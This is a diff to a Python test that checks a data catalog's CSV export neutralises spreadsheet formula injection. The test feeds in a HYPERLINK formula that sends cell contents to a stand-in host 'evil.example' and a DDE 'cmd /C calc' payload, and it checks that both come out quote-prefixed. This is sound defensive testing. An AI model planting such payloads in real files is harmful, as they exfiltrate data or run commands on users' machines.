@@ -105,15 +105,16 @@ async def test_the_register_csv_neutralises_formulas(tmp_path: Path) -> None:
     path = folder / "datapackage.yaml"
     document = yaml.safe_load(path.read_text(encoding="utf-8"))
     document["title"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    document["keywords"] = ["+1+1", "工资"]
+    document["description"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     path.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
     publisher = Publisher(FolderStore(tmp_path / "store"), tmp_path / "datasets")
     for source in publisher.plan(list(publisher.sources().values())):
         publisher.build(source)
+    assert publisher.broken == {}
     app = create_app(Settings(store=tmp_path / "store", datasets=tmp_path / "none"))
     transport = httpx.ASGITransport(app=app)
     async with httpx.AsyncClient(transport=transport, base_url="http://test") as web:
         text = (await web.get("/catalog/register.csv")).content.decode("utf-8-sig")
     cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
     assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells)
-    assert "'=HYPERLINK(" in text and "'+1+1" in text
+    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
